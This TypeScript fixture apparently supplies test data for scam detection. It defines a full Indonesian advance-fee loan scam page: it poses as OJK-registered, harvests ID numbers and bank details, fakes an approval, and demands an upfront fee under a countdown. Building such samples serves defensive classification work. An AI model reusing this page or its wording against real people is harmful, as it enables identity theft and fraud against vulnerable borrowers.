import { type Entry } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

// Indonesian "pinjaman online" (online loan) that demands an upfront administration fee before disbursement.
const host = 'danacepat-kilat.pinjaman-resmi-ojk.com';

const page = `<!DOCTYPE html>
<html lang="id">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1,maximum-scale=1">
<title>DanaCepat Kilat – Pinjaman Online Cair 5 Menit Tanpa Jaminan | Terdaftar &amp; Diawasi OJK</title>
<meta name="description" content="Pinjaman online langsung cair hingga Rp 50 juta, bunga 0,3% per bulan, tanpa BI checking, tanpa jaminan.">
<link rel="icon" href="/assets/fav.png">
<style>
*{box-sizing:border-box}body{margin:0;font-family:Poppins,Roboto,Arial,sans-serif;background:#f6f9fc;color:#1f2a37}
nav{background:#fff;padding:12px 20px;display:flex;align-items:center;justify-content:space-between;box-shadow:0 1px 6px rgba(0,0,0,.06);position:sticky;top:0;z-index:5}
nav .lg{font-weight:800;color:#0aa36b;font-size:20px}nav .lg span{color:#f59e0b}
nav a{color:#334;margin-left:16px;text-decoration:none;font-size:14px}
.hero{background:linear-gradient(135deg,#0aa36b,#0e7c86);color:#fff;padding:36px 20px 80px;text-align:center}
.hero h1{font-size:28px;margin:0 0 8px}.hero p{opacity:.9}
.badges{display:flex;gap:8px;justify-content:center;flex-wrap:wrap;margin-top:12px}.badges span{background:rgba(255,255,255,.18);border-radius:20px;padding:4px 12px;font-size:12px}
.calc{max-width:460px;margin:-60px auto 20px;background:#fff;border-radius:14px;box-shadow:0 10px 30px rgba(0,0,0,.12);padding:22px}
.calc label{font-size:13px;color:#556;display:block;margin:12px 0 4px}
.calc input[type=range]{width:100%}.big{font-size:24px;font-weight:700;color:#0aa36b}
.calc input[type=text],.calc input[type=tel],.calc select{width:100%;padding:11px;border:1px solid #d7dde5;border-radius:8px;font-size:15px}
.btn{width:100%;margin-top:16px;background:#f59e0b;border:0;color:#fff;font-size:17px;font-weight:700;padding:14px;border-radius:10px}
.step{display:none}.step.on{display:block}
.fee{background:#fff7ed;border:1px dashed #f59e0b;border-radius:10px;padding:14px;margin-top:12px;font-size:14px}
.rek{font-family:monospace;font-size:18px;background:#f3f4f6;padding:8px;border-radius:6px;margin:6px 0}
.testi{max-width:900px;margin:30px auto;display:grid;grid-template-columns:repeat(auto-fit,minmax(240px,1fr));gap:14px;padding:0 16px}
.testi div{background:#fff;border-radius:10px;padding:14px;font-size:14px;box-shadow:0 1px 4px rgba(0,0,0,.06)}
footer{background:#0f172a;color:#94a3b8;font-size:12px;padding:24px;text-align:center;line-height:1.6}
.wa{position:fixed;right:18px;bottom:18px;background:#25d366;color:#fff;border-radius:30px;padding:12px 18px;font-weight:700;text-decoration:none;box-shadow:0 4px 14px rgba(0,0,0,.2)}
</style>
</head>
<body>
<nav><div class="lg">Dana<span>Cepat</span> Kilat</div><div><a href="#cara">Cara Pengajuan</a><a href="#faq">FAQ</a><a href="#kontak">Kontak</a></div></nav>
<section class="hero">
 <h1>Butuh Dana Darurat? Cair dalam 5 Menit!</h1>
 <p>Pinjaman hingga <b>Rp 50.000.000</b> tanpa jaminan, tanpa BI Checking, tanpa survei. Cukup KTP!</p>
 <div class="badges"><span>&#10004; Terdaftar &amp; Diawasi OJK</span><span>&#10004; Bunga 0,3%/bulan</span><span>&#10004; Tenor 3–24 bulan</span><span>&#10004; 1,2 juta nasabah</span></div>
</section>
<div class="calc">
 <div class="step on" id="s1">
  <label>Jumlah pinjaman</label><div class="big" id="amtv">Rp 15.000.000</div>
  <input type="range" id="amt" min="2000000" max="50000000" step="1000000" value="15000000">
  <label>Tenor</label><select id="ten"><option value="6">6 bulan</option><option value="12" selected>12 bulan</option><option value="24">24 bulan</option></select>
  <p style="font-size:14px">Cicilan per bulan: <b id="cic"></b></p>
  <button class="btn" onclick="go(2)">Ajukan Sekarang</button>
 </div>
 <div class="step" id="s2">
  <h3 style="margin-top:0">Data Pemohon</h3>
  <label>Nama lengkap sesuai KTP</label><input type="text" id="nm">
  <label>NIK (16 digit)</label><input type="text" id="nik" maxlength="16" inputmode="numeric">
  <label>Nomor WhatsApp aktif</label><input type="tel" id="wa" placeholder="08xxxxxxxxxx">
  <label>Bank penerima</label><select id="bank"><option>BCA</option><option>BRI</option><option>Mandiri</option><option>BNI</option><option>DANA</option><option>OVO</option></select>
  <label>Nomor rekening</label><input type="text" id="rek" inputmode="numeric">
  <button class="btn" onclick="submitApp()">Kirim Pengajuan</button>
 </div>
 <div class="step" id="s3">
  <h3 style="margin-top:0;color:#0aa36b">&#127881; Selamat! Pengajuan Anda DISETUJUI</h3>
  <p>Dana sebesar <b id="appr"></b> siap dicairkan ke rekening Anda.</p>
  <div class="fee">Sesuai ketentuan, nasabah baru wajib membayar <b>biaya administrasi &amp; asuransi pencairan sebesar <span id="feev"></span></b> terlebih dahulu. Biaya ini <b>akan dikembalikan 100%</b> bersama dana pinjaman.
   <div>Transfer ke rekening resmi:</div>
   <div class="rek">BRI 0331-01-048812-50-6<br>a.n. PT DANA SEJAHTERA MANDIRI</div>
   <div>atau DANA / OVO: <b>0831-9920-4471</b></div>
   <p>Setelah transfer, kirim bukti pembayaran ke WhatsApp admin. Pencairan otomatis dalam 5 menit. Batas waktu: <b id="tm">30:00</b></p>
  </div>
  <a class="btn" style="display:block;text-align:center;text-decoration:none" id="konf" href="#">Konfirmasi via WhatsApp</a>
 </div>
</div>
<section class="testi" id="cara">
 <div><b>Rina, Bekasi</b><br>"Alhamdulillah cair 15 juta cuma 10 menit, buat bayar sekolah anak. Terima kasih DanaCepat!" ★★★★★</div>
 <div><b>Agus, Surabaya</b><br>"Ditolak di mana-mana karena BI checking, di sini langsung ACC." ★★★★★</div>
 <div><b>Dewi, Medan</b><br>"Prosesnya gampang, admin ramah dan fast respon." ★★★★★</div>
</section>
<footer id="kontak">PT Dana Sejahtera Mandiri &middot; Terdaftar dan diawasi oleh Otoritas Jasa Keuangan (OJK) No. KEP-118/D.05/2021<br>Menara Sentraya Lt. 27, Jl. Iskandarsyah Raya No. 1A, Jakarta Selatan &middot; cs@danacepat-kilat.com<br>© 2025 DanaCepat Kilat. Hak cipta dilindungi.</footer>
<a class="wa" href="https://wa.me/6283199204471?text=Halo%20admin%20DanaCepat" id="wafl">WhatsApp Admin</a>
<script src="/assets/app.min.js"></script>
</body>
</html>`;

const appJs = `var fmt=function(n){return 'Rp '+n.toString().replace(/\\B(?=(\\d{3})+(?!\\d))/g,'.')};
var A=document.getElementById('amt'),T=document.getElementById('ten');
function upd(){var a=+A.value,t=+T.value;document.getElementById('amtv').textContent=fmt(a);document.getElementById('cic').textContent=fmt(Math.round(a/t+a*0.003))}
A.oninput=upd;T.onchange=upd;upd();
function go(n){document.querySelectorAll('.step').forEach(function(s){s.classList.remove('on')});document.getElementById('s'+n).classList.add('on');scrollTo(0,0)}
function submitApp(){var d={nm:nm.value,nik:nik.value,wa:wa.value,bank:bank.value,rek:rek.value,amt:A.value,ten:T.value,ua:navigator.userAgent};
if(d.nik.length!==16){alert('NIK harus 16 digit');return}
fetch('/api/pengajuan',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(d)}).then(function(r){return r.json()}).then(function(j){
document.getElementById('appr').textContent=fmt(+A.value);document.getElementById('feev').textContent=fmt(j.fee||Math.max(350000,Math.round(A.value*0.025)));
document.getElementById('konf').href='https://wa.me/6283199204471?text='+encodeURIComponent('Saya sudah transfer biaya admin. Nama: '+d.nm+', NIK: '+d.nik);
go(3);var s=1800;setInterval(function(){s=Math.max(0,s-1);document.getElementById('tm').textContent=Math.floor(s/60)+':'+('0'+s%60).slice(-2)},1000)})}
`;

export const entries: Entry[] = [
  {
    id: 'e-scam-advfee-pinjaman-id',
    label: 'scam',
    kind: 'advance-fee-loan',
    url: `https://${host}/pengajuan?utm_source=fb&utm_campaign=cair5menit`,
    body: page,
    routes: {
      [`${host}/assets/app.min.js`]: jsRoute(appJs),
      [`${host}/assets/fav.png`]: pngRoute(10, 163, 107),
      [`${host}/api/pengajuan`]: jsonRoute({ ok: true, status: 'approved', fee: 475000 }),
    },
  },
];
